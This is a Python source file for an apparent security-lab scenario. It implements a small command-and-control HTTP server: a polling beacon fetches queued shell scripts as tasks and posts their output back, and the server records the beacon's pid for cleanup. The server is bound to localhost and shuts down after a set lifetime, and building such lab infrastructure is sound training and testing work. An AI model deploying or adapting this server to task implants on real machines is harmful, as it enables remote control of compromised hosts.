#!/usr/bin/env python3
"""Lab tooling: the C2 HTTP server of scenario-kb-sqlconsole (runs as labremote).

The polling beacon asks GET /t/<name>?p=<its pid>: the oldest queued task
DIR/<name>/q-*.sh is answered (200, the script) and moved to DIR/<name>/done/;
with nothing queued the answer is 404 (the beacon's curl -f runs nothing).
The first poll of a beacon records its pid in PIDDIR/beacon-<name>.pid (the
scenario's cleanup stops what is left by that pid). POST /o/<name> appends the
task's output to DIR/<name>/out.log and one line to DIR/<name>/out.count (the
driver waits on it). Stops by itself after --lifetime seconds.

  kb-c2.py --port 8000 --dir DIR --piddir PIDDIR [--lifetime 600]
"""
import argparse
import os
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--dir", required=True)
    p.add_argument("--piddir", required=True)
    p.add_argument("--lifetime", type=float, default=600)
    a = p.parse_args()
    lock = threading.Lock()

    class H(BaseHTTPRequestHandler):
        def log_message(self, fmt, *args):
            with open(os.path.join(a.dir, "requests.log"), "a") as fh:
                fh.write("%s %s\n" % (time.strftime("%H:%M:%S"), fmt % args))

        def _name(self, prefix):
            m = re.match(r"^/%s/([a-z0-9]+)(\?p=(\d+))?$" % prefix, self.path)
            return (m.group(1), m.group(3)) if m else (None, None)

        def _answer(self, code, body=b""):
            self.send_response(code)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):
            name, pid = self._name("t")
            if not name:
                return self._answer(404)
            q = os.path.join(a.dir, name)
            with lock:
                pf = os.path.join(a.piddir, "beacon-%s.pid" % name)
                if pid and not os.path.exists(pf):
                    with open(pf, "w") as fh:
                        fh.write(pid + "\n")
                tasks = sorted(f for f in os.listdir(q) if f.startswith("q-")) if os.path.isdir(q) else []
                if not tasks:
                    return self._answer(404)
                body = open(os.path.join(q, tasks[0]), "rb").read()
                os.makedirs(os.path.join(q, "done"), exist_ok=True)
                os.rename(os.path.join(q, tasks[0]), os.path.join(q, "done", tasks[0]))
            self._answer(200, body)

        def do_POST(self):
            name, _ = self._name("o")
            n = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(n) if n else b""
            if not name:
                return self._answer(404)
            q = os.path.join(a.dir, name)
            os.makedirs(q, exist_ok=True)
            with lock:
                with open(os.path.join(q, "out.log"), "ab") as fh:
                    fh.write(b"=== %s\n" % time.strftime("%H:%M:%S").encode() + body + b"\n")
                with open(os.path.join(q, "out.count"), "a") as fh:
                    fh.write("1\n")
            self._answer(201)

    srv = ThreadingHTTPServer(("127.0.0.1", a.port), H)
    threading.Timer(a.lifetime, srv.shutdown).start()
    srv.serve_forever()


if __name__ == "__main__":
    main()
